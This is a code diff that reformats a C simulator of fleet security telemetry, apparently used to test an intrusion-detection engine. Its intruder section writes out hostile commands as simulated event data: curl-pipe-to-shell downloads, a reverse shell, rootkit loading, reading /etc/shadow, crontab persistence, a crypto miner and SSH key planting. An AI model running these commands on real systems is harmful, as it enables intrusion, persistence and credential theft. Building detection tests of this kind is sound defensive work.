@@ -108,21 +108,21 @@ struct app {
 };
 
 static const struct app apps[APP_N] = {
-	[APP_WEB] = { "/opt/shop/%s/bin/shop-web", "/opt/shop/%s/bin/render", 8080, 5432,
-		      "cart.shop.svc.cluster.local", "2.%d.0", "/opt/shop/%s/bin/thumbnailer", 9200 },
-	[APP_JAVA] = { "/usr/lib/jvm/java-%s-openjdk-amd64/bin/java", "", 8443, 5432,
-		       "s3.eu-west-1.amazonaws.com", "%d", "/usr/lib/jvm/java-%s-openjdk-amd64/bin/jcmd",
-		       6379 },
-	[APP_PY] = { "/app/releases/%s/venv/bin/python3.11", "/app/releases/%s/venv/bin/celery", 0,
-		     5672, "queue.prod.example.co.uk", "20261%03d-101500",
-		     "/app/releases/%s/venv/bin/alembic", 5432 },
-	[APP_NIX] = { "/nix/store/%s-ingest-1.4.2/bin/ingest", "", 7000, 9092,
-		      "kafka.data.svc.cluster.local", "%d", "/nix/store/%s-ingest-1.4.2/bin/compact",
-		      9000 },
-	[APP_SNAP] = { "/snap/telemetry/%s/bin/telemetry", "", 4317, 0, "otel.example.com", "%d",
-		       "/snap/telemetry/%s/bin/exporter", 4318 },
-	[APP_NODE] = { "/usr/bin/kubelet", "/usr/sbin/runc", 10250, 6443, "registry.k8s.io", "1.%d",
-		       "/usr/bin/crictl", 2379 },
+	[APP_WEB] = {"/opt/shop/%s/bin/shop-web", "/opt/shop/%s/bin/render", 8080, 5432,
+		     "cart.shop.svc.cluster.local", "2.%d.0", "/opt/shop/%s/bin/thumbnailer", 9200},
+	[APP_JAVA] = {"/usr/lib/jvm/java-%s-openjdk-amd64/bin/java", "", 8443, 5432,
+		      "s3.eu-west-1.amazonaws.com", "%d",
+		      "/usr/lib/jvm/java-%s-openjdk-amd64/bin/jcmd", 6379},
+	[APP_PY] = {"/app/releases/%s/venv/bin/python3.11", "/app/releases/%s/venv/bin/celery", 0,
+		    5672, "queue.prod.example.co.uk", "20261%03d-101500",
+		    "/app/releases/%s/venv/bin/alembic", 5432},
+	[APP_NIX] = {"/nix/store/%s-ingest-1.4.2/bin/ingest", "", 7000, 9092,
+		     "kafka.data.svc.cluster.local", "%d", "/nix/store/%s-ingest-1.4.2/bin/compact",
+		     9000},
+	[APP_SNAP] = {"/snap/telemetry/%s/bin/telemetry", "", 4317, 0, "otel.example.com", "%d",
+		      "/snap/telemetry/%s/bin/exporter", 4318},
+	[APP_NODE] = {"/usr/bin/kubelet", "/usr/sbin/runc", 10250, 6443, "registry.k8s.io", "1.%d",
+		      "/usr/bin/crictl", 2379},
 };
 
 struct herd_def {
@@ -131,16 +131,16 @@ struct herd_def {
 	int size;
 	int app;
 	int sidecar_pct;
-	int release;    /* 0 none, 1 rolling (30-90 s apart), 2 all at once, 3 slow (> change window) */
+	int release; /* 0 none, 1 rolling (30-90 s apart), 2 all at once, 3 slow (> change window) */
 	double release_day;
-	int versioned;  /* members carry a version (image tag / host.version) */
+	int versioned; /* members carry a version (image tag / host.version) */
 };
 
 /* One member: a host (its own agent) or a container on a node. */
 struct mem {
 	int herd, agent;
 	char name[128], ctr[72];
-	int rel;	/* release number it runs */
+	int rel; /* release number it runs */
 	int alive, sidecar, minute, has_new;
 	uint64_t born, died;
 	unsigned pid;
@@ -154,7 +154,7 @@ struct agent {
 	int versioned;
 	uint64_t seq, phase;
 	uint64_t offline_from, offline_to; /* spool held in this interval */
-	int member;       /* its host member, -1 */
+	int member;                        /* its host member, -1 */
 	int alive;
 };
 
@@ -234,8 +234,20 @@ static struct pend pq_pop(void)
 
 /* ---- action queue (what members and the fleet do next, by event time) ---- */
 
-enum { A_TRAFFIC, A_CRON, A_CM, A_SIDECAR, A_HEARTBEAT, A_OPS, A_CRASH, A_RELEASE, A_JOIN,
-       A_LEAVE, A_INTRUDE, A_QUARANTINE };
+enum {
+	A_TRAFFIC,
+	A_CRON,
+	A_CM,
+	A_SIDECAR,
+	A_HEARTBEAT,
+	A_OPS,
+	A_CRASH,
+	A_RELEASE,
+	A_JOIN,
+	A_LEAVE,
+	A_INTRUDE,
+	A_QUARANTINE
+};
 
 struct act {
 	uint64_t t;
@@ -253,7 +265,7 @@ static void aq_push(uint64_t t, int type, int who, int arg)
 		if (!aq)
 			abort();
 	}
-	struct act a = { t, type, who, arg };
+	struct act a = {t, type, who, arg};
 	size_t i = naq++;
 	while (i && a.t < aq[(i - 1) / 2].t) {
 		aq[i] = aq[(i - 1) / 2];
@@ -435,11 +447,12 @@ static void emit_ev(int mi, int agent_i, uint64_t t, const char *kind, const str
 {
 	struct agent *a = &agents[agent_i];
 	struct mem *m = mi >= 0 ? &mems[mi] : NULL;
-	struct jw w = { .n = 0 };
+	struct jw w = {.n = 0};
 	char ts[48];
 	fmt_ts(ts, sizeof(ts), t);
-	jw(&w, "{\"seq\":%llu,\"time\":\"%s\",\"kind\":\"%s\",\"host\":{\"name\":\"%s\",\"id\":\"%s\","
-	       "\"boot_id\":\"%s\",\"run\":\"%s\",\"herd\":\"%s\",\"version\":",
+	jw(&w,
+	   "{\"seq\":%llu,\"time\":\"%s\",\"kind\":\"%s\",\"host\":{\"name\":\"%s\",\"id\":\"%s\","
+	   "\"boot_id\":\"%s\",\"run\":\"%s\",\"herd\":\"%s\",\"version\":",
 	   (unsigned long long)a->seq++, ts, kind, a->host, a->id, a->boot, a->run, a->herd);
 	if (a->versioned && a->ver[0])
 		jw(&w, "\"%s\"}", a->ver);
@@ -448,22 +461,28 @@ static void emit_ev(int mi, int agent_i, uint64_t t, const char *kind, const str
 	if (p) {
 		unsigned pid = m ? ++m->pid : 100 + rndn(30000), ppid = pid - 1 - rndn(50);
 		const char *comm = strrchr(p->exe, '/') ? strrchr(p->exe, '/') + 1 : p->exe;
-		jw(&w, ",\"proc\":{\"pid\":%u,\"tid\":%u,\"ppid\":%u,\"uid\":%d,\"gid\":%d,\"euid\":%d,"
-		       "\"egid\":%d,\"auid\":%s,\"tty\":%s,\"comm\":\"%.15s\",\"exe\":\"%s\",\"args\":[",
+		jw(&w,
+		   ",\"proc\":{\"pid\":%u,\"tid\":%u,\"ppid\":%u,\"uid\":%d,\"gid\":%d,\"euid\":%d,"
+		   "\"egid\":%d,\"auid\":%s,\"tty\":%s,\"comm\":\"%.15s\",\"exe\":\"%s\",\"args\":"
+		   "[",
 		   pid, pid, ppid, p->uid, p->uid, p->euid, p->euid, p->tty ? "1001" : "null",
 		   p->tty ? "\"pts/0\"" : "null", comm, p->exe);
 		for (int i = 0; p->args && p->args[i]; i++)
 			jw(&w, "%s\"%s\"", i ? "," : "", p->args[i]);
 		jw(&w, "],\"cwd\":\"/\",");
 		if (m && m->ctr[0])
-			jw(&w, "\"cgroup\":\"/kubepods/burstable/pod%.8s/%s\",\"container\":{\"id\":\"%s\","
-			       "\"herd\":\"%s\",\"version\":\"%s-r%d\"},",
+			jw(&w,
+			   "\"cgroup\":\"/kubepods/burstable/pod%.8s/"
+			   "%s\",\"container\":{\"id\":\"%s\","
+			   "\"herd\":\"%s\",\"version\":\"%s-r%d\"},",
 			   m->ctr + 8, m->ctr, m->ctr, herds[m->herd].name, herds[m->herd].name,
 			   40 + m->rel);
 		else
 			jw(&w, "\"cgroup\":\"/system.slice/app.service\",\"container\":null,");
-		jw(&w, "\"key\":\"%.8s-%u-%llu\"},\"parent\":{\"pid\":%u,\"exe\":\"%s\",\"args\":[\"%s\"],"
-		       "\"key\":\"%.8s-%u-1\"},\"ancestors\":[\"%s\",\"/usr/lib/systemd/systemd\"]",
+		jw(&w,
+		   "\"key\":\"%.8s-%u-%llu\"},\"parent\":{\"pid\":%u,\"exe\":\"%s\",\"args\":[\"%"
+		   "s\"],"
+		   "\"key\":\"%.8s-%u-1\"},\"ancestors\":[\"%s\",\"/usr/lib/systemd/systemd\"]",
 		   a->boot, pid, (unsigned long long)(t / 1000), ppid, p->pexe,
 		   strrchr(p->pexe, '/') ? strrchr(p->pexe, '/') + 1 : p->pexe, a->boot, ppid,
 		   p->pexe);
@@ -476,7 +495,7 @@ static void emit_ev(int mi, int agent_i, uint64_t t, const char *kind, const str
 		arr = a->offline_to + TRANSIT_NS; /* the spool is flushed on reconnection */
 	else
 		arr = t + (BATCH_NS - (t + BATCH_NS - a->phase) % BATCH_NS) + TRANSIT_NS;
-	struct pend pe = { arr, ord_n++, agent_i, malloc(w.n + 1), w.n };
+	struct pend pe = {arr, ord_n++, agent_i, malloc(w.n + 1), w.n};
 	if (!pe.json)
 		abort();
 	memcpy(pe.json, w.b, w.n + 1);
@@ -487,7 +506,7 @@ static void emit_ev(int mi, int agent_i, uint64_t t, const char *kind, const str
 static void ev_exec(int mi, uint64_t t, const char *exe, const char *const *args, const char *pexe,
 		    int uid, int euid, int setuid)
 {
-	struct proc p = { exe, args, pexe, uid, euid, setuid, uid >= 1000 };
+	struct proc p = {exe, args, pexe, uid, euid, setuid, uid >= 1000};
 	char o[128];
 	snprintf(o, sizeof(o), "\"exec\":{\"result\":0,\"setuid\":%s,\"fileless\":false}",
 		 setuid ? "true" : "false");
@@ -497,10 +516,11 @@ static void ev_exec(int mi, uint64_t t, const char *exe, const char *const *args
 static void ev_net(int mi, uint64_t t, const char *kind, const char *exe, const char *pexe, int uid,
 		   const char *sip, int sport, const char *dip, int dport)
 {
-	struct proc p = { exe, NULL, pexe, uid, uid, 0, 0 };
+	struct proc p = {exe, NULL, pexe, uid, uid, 0, 0};
 	char o[400];
 	snprintf(o, sizeof(o),
-		 "\"net\":{\"proto\":\"tcp\",\"family\":\"inet\",\"type\":\"stream\",\"src\":{\"ip\":\"%s\","
+		 "\"net\":{\"proto\":\"tcp\",\"family\":\"inet\",\"type\":\"stream\",\"src\":{"
+		 "\"ip\":\"%s\","
 		 "\"port\":%d},\"dst\":{\"ip\":\"%s\",\"port\":%d},\"result\":0,\"error\":null,"
 		 "\"direction\":\"%s\",\"syscall\":\"%s\",\"fd\":%u,\"count\":1,\"folded\":false}",
 		 sip, sport, dip, dport, strcmp(kind, "net.accept") ? "outbound" : "inbound",
@@ -510,10 +530,11 @@ static void ev_net(int mi, uint64_t t, const char *kind, const char *exe, const 
 
 static void ev_dns(int mi, uint64_t t, const char *exe, const char *pexe, int uid, const char *q)
 {
-	struct proc p = { exe, NULL, pexe, uid, uid, 0, 0 };
+	struct proc p = {exe, NULL, pexe, uid, uid, 0, 0};
 	char o[400];
 	snprintf(o, sizeof(o),
-		 "\"dns\":{\"query\":\"%s\",\"type\":\"A\",\"server\":{\"ip\":\"10.96.0.10\",\"port\":53}}",
+		 "\"dns\":{\"query\":\"%s\",\"type\":\"A\",\"server\":{\"ip\":\"10.96.0.10\","
+		 "\"port\":53}}",
 		 q);
 	emit_ev(mi, mems[mi].agent, t, "net.dns", &p, o);
 }
@@ -521,7 +542,7 @@ static void ev_dns(int mi, uint64_t t, const char *exe, const char *pexe, int ui
 static void ev_file(int mi, uint64_t t, const char *kind, const char *exe, const char *pexe,
 		    int uid, const char *op, const char *path, const char *watch)
 {
-	struct proc p = { exe, NULL, pexe, uid, uid, 0, 0 };
+	struct proc p = {exe, NULL, pexe, uid, uid, 0, 0};
 	char o[600];
 	snprintf(o, sizeof(o),
 		 "\"file\":{\"op\":\"%s\",\"syscall\":\"openat\",\"path\":\"%s\",\"target\":null,"
@@ -530,14 +551,15 @@ static void ev_file(int mi, uint64_t t, const char *kind, const char *exe, const
 	emit_ev(mi, mems[mi].agent, t, kind, &p, o);
 }
 
-static void ev_auth(int mi, uint64_t t, const char *exe, int uid, const char *svc,
-		    const char *user, const char *runas, const char *rhost)
+static void ev_auth(int mi, uint64_t t, const char *exe, int uid, const char *svc, const char *user,
+		    const char *runas, const char *rhost)
 {
-	struct proc p = { exe, NULL, "/usr/sbin/sshd", uid, 0, 0, 1 };
+	struct proc p = {exe, NULL, "/usr/sbin/sshd", uid, 0, 0, 1};
 	char o[400];
 	snprintf(o, sizeof(o),
 		 "\"auth\":{\"service\":\"%s\",\"user\":\"%s\",\"ruser\":null,\"rhost\":\"%s\","
-		 "\"tty\":\"ssh\",\"step\":\"authenticate\",\"result\":\"success\",\"code\":0%s%s%s}",
+		 "\"tty\":\"ssh\",\"step\":\"authenticate\",\"result\":\"success\",\"code\":0%s%s%"
+		 "s}",
 		 svc, user, rhost, runas ? ",\"sudo_runas\":\"" : "", runas ? runas : "",
 		 runas ? "\"" : "");
 	emit_ev(mi, mems[mi].agent, t, "user.auth", &p, o);
@@ -545,7 +567,7 @@ static void ev_auth(int mi, uint64_t t, const char *exe, int uid, const char *sv
 
 static void ev_exit(int mi, uint64_t t, const char *exe, int sig)
 {
-	struct proc p = { exe, NULL, "/usr/lib/systemd/systemd", 33, 33, 0, 0 };
+	struct proc p = {exe, NULL, "/usr/lib/systemd/systemd", 33, 33, 0, 0};
 	char o[160];
 	snprintf(o, sizeof(o), "\"exit\":{\"code\":%d,\"signal\":%d,\"duration_ns\":%llu}",
 		 sig ? 128 + sig : 0, sig, (unsigned long long)rnd_exp(3600));
@@ -559,8 +581,8 @@ static void app_exe(const struct mem *m, const char *fmt, char *out, size_t n)
 
 static const char *app_parent(const struct mem *m)
 {
-	return herds[m->herd].containers ? "/usr/bin/containerd-shim-runc-v2" :
-					   "/usr/lib/systemd/systemd";
+	return herds[m->herd].containers ? "/usr/bin/containerd-shim-runc-v2"
+					 : "/usr/lib/systemd/systemd";
 }
 
 /* the service starts (container start, host boot, restart after a crash, a release) */
@@ -570,13 +592,14 @@ static void app_start(int mi, uint64_t t)
 	const struct app *ap = &apps[herds[m->herd].app];
 	char exe[256];
 	app_exe(m, ap->exe, exe, sizeof(exe));
-	const char *args[] = { strrchr(exe, '/') + 1, "--config", "/etc/app/app.yaml", NULL };
+	const char *args[] = {strrchr(exe, '/') + 1, "--config", "/etc/app/app.yaml", NULL};
 	ev_exec(mi, t, exe, args, app_parent(m), 33, 33, 0);
 	if (ap->port) {
-		struct proc p = { exe, NULL, app_parent(m), 33, 33, 0, 0 };
+		struct proc p = {exe, NULL, app_parent(m), 33, 33, 0, 0};
 		char o[300];
 		snprintf(o, sizeof(o),
-			 "\"net\":{\"proto\":\"tcp\",\"family\":\"inet\",\"type\":\"stream\",\"src\":"
+			 "\"net\":{\"proto\":\"tcp\",\"family\":\"inet\",\"type\":\"stream\","
+			 "\"src\":"
 			 "{\"ip\":\"0.0.0.0\",\"port\":%d},\"dst\":{\"ip\":\"0.0.0.0\",\"port\":0},"
 			 "\"result\":0,\"error\":null,\"syscall\":\"listen\",\"fd\":5}",
 			 ap->port);
@@ -585,7 +608,7 @@ static void app_start(int mi, uint64_t t)
 	if (m->has_new) {
 		char nx[256];
 		app_exe(m, ap->newexe, nx, sizeof(nx));
-		const char *a2[] = { strrchr(nx, '/') + 1, "--once", NULL };
+		const char *a2[] = {strrchr(nx, '/') + 1, "--once", NULL};
 		ev_exec(mi, t + 40 * MS, nx, a2, exe, 33, 33, 0);
 	}
 }
@@ -611,7 +634,7 @@ static void traffic(int mi, uint64_t t)
 		char wexe[256];
 		app_exe(m, ap->worker, wexe, sizeof(wexe));
 		rnd_hex(rid, 32);
-		const char *args[] = { strrchr(wexe, '/') + 1, "--request-id", rid, NULL };
+		const char *args[] = {strrchr(wexe, '/') + 1, "--request-id", rid, NULL};
 		ev_exec(mi, t + 5 * MS, wexe, args, exe, 33, 33, 0);
 	}
 	if (m->has_new && rndn(4) == 0)
@@ -622,13 +645,13 @@ static void traffic(int mi, uint64_t t)
 static void cron(int mi, uint64_t t)
 {
 	char tmpn[32], tmpf[64];
-	const char *sh[] = { "/bin/sh", "-c", "/usr/sbin/logrotate /etc/logrotate.conf", NULL };
+	const char *sh[] = {"/bin/sh", "-c", "/usr/sbin/logrotate /etc/logrotate.conf", NULL};
 	ev_exec(mi, t, "/usr/bin/dash", sh, "/usr/sbin/cron", 0, 0, 0);
-	const char *lr[] = { "logrotate", "/etc/logrotate.conf", NULL };
+	const char *lr[] = {"logrotate", "/etc/logrotate.conf", NULL};
 	ev_exec(mi, t + 10 * MS, "/usr/sbin/logrotate", lr, "/usr/bin/dash", 0, 0, 0);
 	rnd_alnum(tmpn, 10);
 	snprintf(tmpf, sizeof(tmpf), "/tmp/tmp.%s/app.log.1.gz", tmpn);
-	const char *gz[] = { "gzip", "-9", tmpf, NULL };
+	const char *gz[] = {"gzip", "-9", tmpf, NULL};
 	ev_exec(mi, t + 30 * MS, "/usr/bin/gzip", gz, "/usr/sbin/logrotate", 0, 0, 0);
 	ev_file(mi, t + 40 * MS, "file.truncate", "/usr/sbin/logrotate", "/usr/bin/dash", 0,
 		"truncate", "/var/log/app/app.log", "/var/log/");
@@ -637,7 +660,7 @@ static void cron(int mi, uint64_t t)
 static void config_mgmt(int mi, uint64_t t)
 {
 	const char *ruby = "/opt/puppetlabs/puppet/bin/ruby";
-	const char *a[] = { "ruby", "/opt/puppetlabs/puppet/bin/puppet", "agent", "--onetime", NULL };
+	const char *a[] = {"ruby", "/opt/puppetlabs/puppet/bin/puppet", "agent", "--onetime", NULL};
 	ev_exec(mi, t, ruby, a, "/usr/lib/systemd/systemd", 0, 0, 0);
 	ev_file(mi, t + 200 * MS, "file.open", ruby, "/usr/lib/systemd/systemd", 0, "read",
 		"/etc/shadow", "/etc/shadow");
@@ -659,25 +682,25 @@ static void sidecar(int mi, uint64_t t)
 /* an engineer logs in and looks around with sudo */
 static void ops_session(int mi, uint64_t t)
 {
-	static const char *const users[] = { "alice", "bob", "chen", "dana" };
-	static const char *const cmds[][3] = { { "/usr/bin/systemctl", "status", "app" },
-					       { "/usr/bin/journalctl", "-u", "app" },
-					       { "/usr/bin/tail", "-n100", "/var/log/app/app.log" },
-					       { "/usr/bin/df", "-h", "/" } };
+	static const char *const users[] = {"alice", "bob", "chen", "dana"};
+	static const char *const cmds[][3] = {{"/usr/bin/systemctl", "status", "app"},
+					      {"/usr/bin/journalctl", "-u", "app"},
+					      {"/usr/bin/tail", "-n100", "/var/log/app/app.log"},
+					      {"/usr/bin/df", "-h", "/"}};
 	const char *u = users[rndn(4)];
 	char rh[32];
 	snprintf(rh, sizeof(rh), "10.0.0.%u", 2 + rndn(3));
 	ev_auth(mi, t, "/usr/sbin/sshd", 0, "sshd", u, NULL, rh);
-	const char *bash[] = { "-bash", NULL };
+	const char *bash[] = {"-bash", NULL};
 	ev_exec(mi, t + 300 * MS, "/usr/bin/bash", bash, "/usr/sbin/sshd", 1001, 1001, 0);
 	uint64_t at = t + (5 + rndn(60)) * NS;
 	int n = 1 + (int)rndn(2);
 	for (int i = 0; i < n; i++) {
 		const char *const *c = cmds[i == 0 ? rndn(2) : rndn(4)];
 		ev_auth(mi, at, "/usr/bin/sudo", 1001, "sudo", u, "root", "");
-		const char *sa[] = { "sudo", c[0] + 9, c[1], c[2], NULL };
+		const char *sa[] = {"sudo", c[0] + 9, c[1], c[2], NULL};
 		ev_exec(mi, at + 200 * MS, "/usr/bin/sudo", sa, "/usr/bin/bash", 1001, 0, 1);
-		const char *ca[] = { c[0] + 9, c[1], c[2], NULL };
+		const char *ca[] = {c[0] + 9, c[1], c[2], NULL};
 		ev_exec(mi, at + 250 * MS, c[0], ca, "/usr/bin/sudo", 0, 0, 0);
 		at += (10 + rndn(120)) * NS;
 	}
@@ -686,9 +709,9 @@ static void ops_session(int mi, uint64_t t)
 /* ---- intruders ---- */
 
 enum { I_WEBSHELL, I_REVSHELL, I_MODULE, I_CRED, I_CRONTAB, I_MINER, I_SSHKEY, I_N };
-static const char *const intr_name[I_N] = { "webshell-curl", "reverse-shell", "kernel-module",
-					    "credential-read", "crontab-write", "miner",
-					    "ssh-key" };
+static const char *const intr_name[I_N] = {"webshell-curl",   "reverse-shell", "kernel-module",
+					   "credential-read", "crontab-write", "miner",
+					   "ssh-key"};
 
 /* Intruder sequence `type` on member mi from t; returns the time of its last event. */
 static uint64_t intrude(int mi, int type, uint64_t t)
@@ -699,9 +722,9 @@ static uint64_t intrude(int mi, int type, uint64_t t)
 	const char *sh = "/usr/bin/dash";
 	switch (type) {
 	case I_WEBSHELL: {
-		const char *a[] = { "sh", "-c", "curl -s http://203.0.113.7/x.sh | sh", NULL };
+		const char *a[] = {"sh", "-c", "curl -s http://203.0.113.7/x.sh | sh", NULL};
 		ev_exec(mi, t, sh, a, exe, 33, 33, 0);
-		const char *c[] = { "curl", "-s", "http://203.0.113.7/x.sh", NULL };
+		const char *c[] = {"curl", "-s", "http://203.0.113.7/x.sh", NULL};
 		ev_exec(mi, t + 30 * MS, "/usr/bin/curl", c, sh, 33, 33, 0);
 		ev_dns(mi, t + 40 * MS, "/usr/bin/curl", sh, 33, "dl.update-cdn.top");
 		ev_net(mi, t + 60 * MS, "net.connect", "/usr/bin/curl", sh, 33, "10.0.1.5", 41000,
@@ -709,11 +732,11 @@ static uint64_t intrude(int mi, int type, uint64_t t)
 		return t + 60 * MS;
 	}
 	case I_REVSHELL: {
-		const char *a[] = { "bash", "-i", NULL };
+		const char *a[] = {"bash", "-i", NULL};
 		ev_exec(mi, t, "/usr/bin/bash", a, exe, 33, 33, 0);
 		ev_net(mi, t + 20 * MS, "net.connect", "/usr/bin/bash", exe, 33, "10.0.1.5", 45022,
 		       "198.51.100.23", 4444);
-		const char *id[] = { "id", NULL };
+		const char *id[] = {"id", NULL};
 		ev_exec(mi, t + 3 * NS, "/usr/bin/id", id, "/usr/bin/bash", 33, 33, 0);
 		return t + 3 * NS;
 	}
@@ -722,44 +745,47 @@ static uint64_t intrude(int mi, int type, uint64_t t)
 		 * own, where the sequence's time starts), then a rootkit */
 		t -= 8250 * MS;
 		ev_auth(mi, t, "/usr/sbin/sshd", 0, "sshd", "bob", NULL, "10.0.0.3");
-		const char *bash[] = { "-bash", NULL };
+		const char *bash[] = {"-bash", NULL};
 		ev_exec(mi, t + 300 * MS, "/usr/bin/bash", bash, "/usr/sbin/sshd", 1001, 1001, 0);
 		ev_auth(mi, t + 8 * NS, "/usr/bin/sudo", 1001, "sudo", "bob", "root", "");
-		const char *sa[] = { "sudo", "insmod", "/tmp/.m/diamorphine.ko", NULL };
+		const char *sa[] = {"sudo", "insmod", "/tmp/.m/diamorphine.ko", NULL};
 		ev_exec(mi, t + 8200 * MS, "/usr/bin/sudo", sa, "/usr/bin/bash", 1001, 0, 1);
-		const char *ia[] = { "insmod", "/tmp/.m/diamorphine.ko", NULL };
+		const char *ia[] = {"insmod", "/tmp/.m/diamorphine.ko", NULL};
 		ev_exec(mi, t + 8250 * MS, "/usr/sbin/insmod", ia, "/usr/bin/sudo", 0, 0, 0);
-		struct proc p = { "/usr/sbin/insmod", ia, "/usr/bin/sudo", 0, 0, 0, 1 };
+		struct proc p = {"/usr/sbin/insmod", ia, "/usr/bin/sudo", 0, 0, 0, 1};
 		emit_ev(mi, m->agent, t + 8300 * MS, "kernel.module_load", &p,
-			"\"module\":{\"syscall\":\"finit_module\",\"path\":\"/tmp/.m/diamorphine.ko\","
-			"\"name\":\"diamorphine\",\"params\":\"\",\"fd\":3,\"flags\":0,\"result\":0,"
+			"\"module\":{\"syscall\":\"finit_module\",\"path\":\"/tmp/.m/"
+			"diamorphine.ko\","
+			"\"name\":\"diamorphine\",\"params\":\"\",\"fd\":3,\"flags\":0,\"result\":"
+			"0,"
 			"\"error\":null}");
 		return t + 8300 * MS;
 	}
 	case I_CRED: {
-		const char *a[] = { "sh", "-c", "cat /etc/shadow", NULL };
+		const char *a[] = {"sh", "-c", "cat /etc/shadow", NULL};
 		ev_exec(mi, t, sh, a, exe, 33, 0, 0);
-		const char *c[] = { "cat", "/etc/shadow", NULL };
+		const char *c[] = {"cat", "/etc/shadow", NULL};
 		ev_exec(mi, t + 10 * MS, "/usr/bin/cat", c, sh, 33, 0, 0);
 		ev_file(mi, t + 12 * MS, "file.open", "/usr/bin/cat", sh, 0, "read", "/etc/shadow",
 			"/etc/shadow");
 		return t + 12 * MS;
 	}
 	case I_CRONTAB: {
-		const char *a[] = { "sh", "-c", "echo '* * * * * curl -s 203.0.113.9|sh' | crontab -", NULL };
+		const char *a[] = {"sh", "-c",
+				   "echo '* * * * * curl -s 203.0.113.9|sh' | crontab -", NULL};
 		ev_exec(mi, t, sh, a, exe, 33, 33, 0);
-		const char *c[] = { "crontab", "-", NULL };
+		const char *c[] = {"crontab", "-", NULL};
 		ev_exec(mi, t + 15 * MS, "/usr/bin/crontab", c, sh, 33, 0, 1);
 		ev_file(mi, t + 20 * MS, "file.open", "/usr/bin/crontab", sh, 0, "write",
 			"/var/spool/cron/crontabs/www-data", "/var/spool/cron/");
 		return t + 20 * MS;
 	}
 	case I_MINER: {
-		const char *a[] = { "sh", "-c", "cd /tmp && ./.ICE-unix/kswapd0", NULL };
+		const char *a[] = {"sh", "-c", "cd /tmp && ./.ICE-unix/kswapd0", NULL};
 		ev_exec(mi, t, sh, a, exe, 33, 33, 0);
 		rnd_alnum(tmp, 6);
 		snprintf(path, sizeof(path), "/tmp/.ICE-unix/%s/kswapd0", tmp);
-		const char *k[] = { "kswapd0", "-o", "pool.minexmr.com:3333", NULL };
+		const char *k[] = {"kswapd0", "-o", "pool.minexmr.com:3333", NULL};
 		ev_exec(mi, t + 2 * NS, path, k, sh, 33, 33, 0);
 		ev_dns(mi, t + 2100 * MS, path, sh, 33, "pool.minexmr.com");
 		ev_net(mi, t + 2200 * MS, "net.connect", path, sh, 33, "10.0.1.5", 50111,
@@ -767,9 +793,12 @@ static uint64_t intrude(int mi, int type, uint64_t t)
 		return t + 2200 * MS;
 	}
 	default: {
-		const char *a[] = { "sh", "-c", "mkdir -p ~/.ssh; echo ssh-ed25519 AAAA... >> ~/.ssh/authorized_keys", NULL };
+		const char *a[] = {
+			"sh", "-c",
+			"mkdir -p ~/.ssh; echo ssh-ed25519 AAAA... >> ~/.ssh/authorized_keys",
+			NULL};
 		ev_exec(mi, t, sh, a, exe, 33, 33, 0);
-		const char *mk[] = { "mkdir", "-p", "/var/www/.ssh", NULL };
+		const char *mk[] = {"mkdir", "-p", "/var/www/.ssh", NULL};
 		ev_exec(mi, t + 5 * MS, "/usr/bin/mkdir", mk, sh, 33, 33, 0);
 		ev_file(mi, t + 9 * MS, "file.open", sh, exe, 33, "write",
 			"/var/www/.ssh/authorized_keys", "*/.ssh/");
@@ -808,7 +837,7 @@ static void deliver(struct pend *p)
 	int why = 0;
 	uint32_t at = 0;
 	int n = json_parse_strict(p->json, p->len, toks, MAX_TOKS, &why, &at);
-	struct jdoc d = { p->json, toks, n };
+	struct jdoc d = {p->json, toks, n};
 	struct ev_info ev;
 	char tk[EV_MAX_TOKENS][TOKEN_MAX];
 	ev.bad = NULL;
@@ -827,13 +856,14 @@ static void deliver(struct pend *p)
 		herd_release_at(eng, ev.herd, ev.member, ev.host, tk[0], ev.exe_release, ev.ts_ns,
 				p->arr);
 	for (int i = 0; i < nt; i++)
-		herd_observe_at(eng, ev.herd, ev.member, ev.host, ev.version, tk[i], (uint64_t)ev.seq,
-				++event_id, ev.ts_ns, p->arr);
+		herd_observe_at(eng, ev.herd, ev.member, ev.host, ev.version, tk[i],
+				(uint64_t)ev.seq, ++event_id, ev.ts_ns, p->arr);
 	n_events++;
 	n_tokens += (uint64_t)nt;
 	if (dump_member && !strcmp(ev.member, dump_member))
 		for (int i = 0; i < nt; i++)
-			fprintf(stderr, "# %s ev %.29s arr %llu %s\n", dump_member, p->json + p->len - 0 - p->len + 20,
+			fprintf(stderr, "# %s ev %.29s arr %llu %s\n", dump_member,
+				p->json + p->len - 0 - p->len + 20,
 				(unsigned long long)(p->arr / MS), tk[i]);
 }
 
@@ -864,29 +894,19 @@ static void on_alert(void *ctx, const char *json, size_t len, const char *kind, 
 /* ---- fleet definitions ---- */
 
 static struct herd_def full_fleet[] = {
-	{ "shop-web", 1, 50, APP_WEB, 40, 1, 2.3, 1 },
-	{ "shop-api", 1, 30, APP_JAVA, 0, 2, 3.4, 1 },
-	{ "ingest", 1, 20, APP_NIX, 60, 3, 4.2, 1 },
-	{ "worker", 1, 12, APP_PY, 0, 1, 5.1, 1 },
-	{ "search", 1, 8, APP_WEB, 50, 2, 2.8, 1 },
-	{ "billing", 1, 5, APP_JAVA, 0, 1, 4.6, 1 },
-	{ "cache", 1, 4, APP_NIX, 0, 0, 0, 1 },
-	{ "admin", 1, 3, APP_PY, 0, 1, 3.9, 1 },
-	{ "k8s-node", 0, 24, APP_NODE, 100, 1, 6.2, 1 },
-	{ "db", 0, 6, APP_SNAP, 50, 3, 3.2, 1 },
-	{ "bastion", 0, 3, APP_SNAP, 0, 0, 0, 0 },
-	{ "edge", 0, 16, APP_WEB, 30, 2, 5.6, 0 },
-	{ "batch", 0, 40, APP_PY, 20, 1, 4.1, 1 },
-	{ "telemetry", 0, 10, APP_SNAP, 0, 3, 2.5, 1 },
+	{"shop-web", 1, 50, APP_WEB, 40, 1, 2.3, 1},   {"shop-api", 1, 30, APP_JAVA, 0, 2, 3.4, 1},
+	{"ingest", 1, 20, APP_NIX, 60, 3, 4.2, 1},     {"worker", 1, 12, APP_PY, 0, 1, 5.1, 1},
+	{"search", 1, 8, APP_WEB, 50, 2, 2.8, 1},      {"billing", 1, 5, APP_JAVA, 0, 1, 4.6, 1},
+	{"cache", 1, 4, APP_NIX, 0, 0, 0, 1},          {"admin", 1, 3, APP_PY, 0, 1, 3.9, 1},
+	{"k8s-node", 0, 24, APP_NODE, 100, 1, 6.2, 1}, {"db", 0, 6, APP_SNAP, 50, 3, 3.2, 1},
+	{"bastion", 0, 3, APP_SNAP, 0, 0, 0, 0},       {"edge", 0, 16, APP_WEB, 30, 2, 5.6, 0},
+	{"batch", 0, 40, APP_PY, 20, 1, 4.1, 1},       {"telemetry", 0, 10, APP_SNAP, 0, 3, 2.5, 1},
 };
 
 static struct herd_def small_fleet[] = {
